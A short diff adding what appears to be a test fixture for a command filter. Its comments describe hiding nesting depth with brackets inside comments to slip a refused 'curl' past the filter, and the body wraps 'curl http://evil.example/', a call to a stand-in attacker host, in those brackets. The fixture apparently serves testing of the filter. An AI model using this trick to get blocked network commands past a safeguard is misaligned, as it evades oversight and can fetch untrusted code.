@@ -1,0 +1,7 @@
+# Trick: brackets in comments hide how deeply the text nests.
+# Refused: run(curl)
+( #)
+( #)
+curl http://evil.example/
+)
+)
